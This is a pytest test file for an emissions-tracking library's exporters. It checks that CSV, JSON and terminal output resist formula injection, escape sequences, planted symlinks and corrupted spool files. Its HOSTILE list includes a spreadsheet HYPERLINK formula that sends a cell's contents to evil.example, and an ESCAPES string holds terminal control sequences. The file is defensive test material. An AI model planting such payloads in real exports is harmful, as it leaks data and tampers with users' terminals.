"""Text and files that want to be more than text."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from typing import TYPE_CHECKING, Any

import pytest
from exporter_helpers import Sink, call, run_tree  # type: ignore[import-not-found]
from hypothesis import given
from hypothesis import strategies as st
from test_exporters_cli import impactree  # type: ignore[import-not-found]

from impactree import ImpactTracker
from impactree.delivery.address import Address
from impactree.delivery.codec import decode, is_line, readdressed
from impactree.delivery.journal import addresses_of
from impactree.exceptions import ConfigurationError
from impactree.exporters import CodeCarbonExporter
from impactree.values.formatting import clean, csv_cell, json_text

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "a\rb",
    "a\r\n=1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_emissions_csv_holds_no_formula_and_no_lone_carriage_return(
    name: str, tmp_path: Path
) -> None:
    path = tmp_path / "emissions.csv"
    tracker = ImpactTracker(exporters=[CodeCarbonExporter(path, project_name=name)])
    run_tree(tracker, call(provider=name), name=name)
    run_tree(tracker, name="plain")
    assert tracker.flush(5)
    assert b"\r" not in path.read_bytes()
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 2
    assert rows[1]["experiment_id"] == "plain"
    assert not any(value.lstrip()[:1] in tuple("=+@\uff1d") for value in rows[0].values() if value)


@given(st.text(max_size=40))
def test_no_text_becomes_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert cell.strip()[:1] not in {*"=+-@|%", "\uff1d", "\uff0b", "\uff0d", "\uff20"}
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([cell, "next"])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [[cell, "next"]]


@given(st.text() | st.sampled_from(["\x1b[2J", "a\u202eb", "\x9b31m", "\ud800", "\u2066x"]))
def test_printed_json_and_cells_hold_nothing_that_a_terminal_obeys(text: str) -> None:
    printed = json_text({text: [text]})
    assert json.loads(printed) == {text: [text]}
    obeyed = {*range(32), *range(127, 160), 0x61C, 0x200E, 0x200F}
    obeyed |= {*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xD800, 0xE000)}
    assert obeyed.isdisjoint(map(ord, printed))
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert (obeyed - {9, 10}).isdisjoint(map(ord, cell))


@pytest.mark.parametrize("value", [1.5, -3, None, True])
def test_a_number_stays_a_number(value: object) -> None:
    assert csv_cell(value) is value


HEADER = "run_id,emissions,timestamp"


@pytest.mark.parametrize(
    ("before", "line_end"),
    [
        (f"{HEADER}\nlocal,0.5,2026-01-01T00:00:00".encode(), b"\n"),  # no last newline
        (f"\ufeff{HEADER}\nlocal,0.5,2026-01-01T00:00:00\n".encode(), b"\n"),  # saved by Excel
        (f"{HEADER}\r\nlocal,0.5,2026-01-01T00:00:00\r\n".encode(), b"\r\n"),
        (f"{HEADER}\nlocal,0.5,2026-01-01T00:00:00\n".replace(",", ";").encode(), b"\n"),
    ],
    ids=["torn", "mark", "crlf", "semicolons"],
)
@pytest.mark.parametrize("late", [False, True])
def test_an_existing_file_stays_whole(
    before: bytes, line_end: bytes, late: bool, tmp_path: Path
) -> None:
    path = tmp_path / "emissions.csv"
    path.write_bytes(before)
    tracker = ImpactTracker(exporters=[CodeCarbonExporter(path)])
    tracker.start("r", name="r")
    tracker.start("late", "r", name="late", kind="chat")
    tracker.record(call(), "r")
    tracker.end("r")
    assert tracker.flush(5)
    if late:  # the file is written anew
        tracker.end("late", call=call())
        assert tracker.flush(5)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == before.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(line_end)
    assert raw.count(b"\n") == raw.count(line_end) == 3
    delimiter = ";" if b";" in before else ","
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=delimiter))
    assert [row["run_id"] for row in rows] == ["local", "r"]
    assert float(rows[1]["emissions"]) > 0


def test_an_empty_file_gets_its_header(tmp_path: Path) -> None:
    path = tmp_path / "emissions.csv"
    path.touch()
    tracker = ImpactTracker(exporters=[CodeCarbonExporter(path)])
    run_tree(tracker)
    assert tracker.flush(5)
    assert len(path.read_text().splitlines()) == 2


ESCAPES = "gpt-4o\x1b]0;owned\x07\x1b[2J\u202eevil\u2066"


def test_no_escape_reaches_the_terminal(tmp_path: Path) -> None:
    pytest.importorskip("sqlalchemy")
    from impactree.exporters import SQLExporter

    url = f"sqlite:///{tmp_path / 'impacts.db'}"
    tracker = ImpactTracker(exporters=[SQLExporter(url), Sink(ESCAPES)])
    run_tree(tracker, call(model=ESCAPES), name="=cmd")
    assert tracker.flush(5)
    run_tree(ImpactTracker(exporters=[Sink(ESCAPES + "!", *[OSError()] * 9)]))
    for command in (["db", "report", "--db", url], ["spool", "status"]):
        shown = impactree(*command).output
        assert "gpt-4o" in shown
        assert clean(shown.replace("\n", "")) == shown.replace("\n", "")
    exported = impactree("db", "export", "--table", "runs", "--db", url).output
    assert "' =cmd" in exported


def test_no_escape_reaches_the_terminal_from_what_was_typed_or_asked(tmp_path: Path) -> None:
    pytest.importorskip("sqlalchemy")
    from impactree.exporters import SQLExporter

    url = f"sqlite:///{tmp_path / 'impacts.db'}"
    tracker = ImpactTracker(exporters=[SQLExporter(url)])
    run_tree(tracker, call(model=ESCAPES, provider=ESCAPES), name=ESCAPES, tags=[ESCAPES])
    assert tracker.flush(5)
    for command in (
        ["explain", ESCAPES, "--provider", ESCAPES],
        ["explain", ESCAPES, "--provider", ESCAPES, "--json"],
        ["explain", "gpt-4o", "--zone", ESCAPES],
        ["models", ESCAPES],
        ["db", "report", "--db", f"sqlite:///{tmp_path}/{ESCAPES}.db"],
        ["db", "report", "--by", ESCAPES, "--db", url],
        ["db", "export", "--db", url],
        ["db", "export", "--table", "runs", "--format", "jsonl", "--db", url],
        ["report", ESCAPES],
        ["spool", "adopt", ESCAPES, "x", "--yes"],
    ):
        shown = impactree(*command).output
        assert shown
        shown = shown.replace("\r\n", "\n")  # the ends of CSV's lines
        assert not {c for c in shown if not c.isprintable()} - {"\n"}, command


def test_langsmith_gets_no_metadata_where_its_user_hides_it(
    service: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from langsmith import utils as langsmith_utils

    from impactree.exporters import LangSmithExporter

    monkeypatch.setenv("LANGSMITH_HIDE_METADATA", "true")
    langsmith_utils.get_env_var.cache_clear()
    tracker = ImpactTracker(exporters=[LangSmithExporter()])
    run_tree(tracker, metadata={"user_id": "planted-user"})
    assert tracker.flush(10)
    assert service.runs
    assert "planted" not in json.dumps(service.runs)
    assert all(not run["extra"].get("metadata") for run in service.runs.values())


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("postgresql://h:99999/x", "port must be 1 to 65535, not 99999"),
        ("postgresql://h:abc/x", "not a database URL"),
        ("mysql://h/x", "driver 'MySQLdb' is not installed"),
        ("oracle://h/x", "is not installed"),
        ("sqlite+aiosqlite:///x", r"asynchronous driver: use one that is not, such as 'sqlite://"),
    ],
)
def test_a_bad_port_and_an_absent_driver_are_named_at_once(url: str, said: str) -> None:
    pytest.importorskip("sqlalchemy")
    from impactree.exporters import SQLExporter

    with pytest.raises(ConfigurationError, match=said):
        SQLExporter(url)


def test_a_bad_port_of_langsmith_is_named_at_once(
    service: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from langsmith import utils as langsmith_utils

    from impactree.exporters import LangSmithExporter

    monkeypatch.setenv("LANGSMITH_ENDPOINT", "http://127.0.0.1:99999")
    langsmith_utils.get_env_var.cache_clear()
    with pytest.raises(ConfigurationError, match="set LANGSMITH_ENDPOINT to a URL such as"):
        LangSmithExporter()


# Every reader of the spool: nothing but the error that is ours, whatever the bytes.

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=12,
)
FIELDS = ("to", "id", "revision", "format", "method", "parent_id", "runs", "messages", "notes")
records = st.fixed_dictionaries({}, optional=dict.fromkeys(FIELDS, json_values)).map(
    lambda fields: json.dumps({**fields, "format": 2}).encode()
)
damaged = st.binary(max_size=80) | records | st.just(b"[" * 100_000)


@given(damaged)
def test_any_bytes_are_a_line_or_a_value_error(data: bytes) -> None:
    assert isinstance(addresses_of(b'{"to":' + data), list)
    if not is_line(data):
        with pytest.raises(ValueError, match=r"."):
            readdressed(data, "x")
    with contextlib.suppress(ValueError):
        decode(data, "x")


@given(st.integers(0, 400), st.binary(min_size=1, max_size=3))
def test_a_damaged_line_is_a_tree_or_a_value_error(place: int, other: bytes) -> None:
    with contextlib.suppress(ValueError):
        decode(LINE[:place] + other + LINE[place + len(other) :], "x")


def _line() -> bytes:
    from impactree.delivery.codec import encode

    tracker = ImpactTracker()
    run_tree(tracker, call(), metadata={"thread_id": "t"})
    assert tracker.last_run is not None
    return b"".join(encode(tracker.last_run, "m", ["x"], {"x": {"project": "p"}}))


LINE = _line()


@given(st.binary(max_size=200))
def test_any_bytes_beside_a_journal_hold_up_nothing(data: bytes) -> None:
    import tempfile
    from pathlib import Path

    from impactree.delivery.directory import Directory
    from impactree.delivery.journal import Folder

    with tempfile.TemporaryDirectory() as name:
        path = Path(name)
        (path / "000001.jsonl").write_bytes(LINE + data)
        (path / "000001.done").write_bytes(data)
        (path / "owner.key").write_bytes(data)
        directory = Directory.open(path)
        folder = Folder.load(directory)
        assert folder.addresses <= {"x", *addresses_of(data.partition(b"\n")[0])} or data
        folder.read("x")
        directory.close()


@given(st.text(max_size=60))
def test_any_text_is_an_address(text: str) -> None:
    assert str(Address.parse(text).destination) is not None


@pytest.mark.skipif(not hasattr(os, "O_NOFOLLOW"), reason="Windows")
def test_links_planted_beside_emissions_csv_lead_nowhere(tmp_path: Path) -> None:
    victim, shared = tmp_path / "secret", tmp_path / "shared"
    victim.write_text("mine\n")
    shared.mkdir()
    names = (".emissions.csv.credits.txt.part", f".emissions.csv.{os.getpid()}.part")
    for name in (*names, "emissions.csv.credits.txt"):
        (shared / name).symlink_to(victim)
    tracker = ImpactTracker(exporters=[CodeCarbonExporter(shared / "emissions.csv")])
    root = run_tree(tracker)
    assert tracker.flush(5)
    tracker.record(call(), root)  # a late end, which rewrites the file
    assert tracker.flush(5)
    assert len((shared / "emissions.csv").read_text().splitlines()) == 2
    assert victim.read_text() == "mine\n"
    assert "mine" not in (shared / "emissions.csv.credits.txt").read_text()
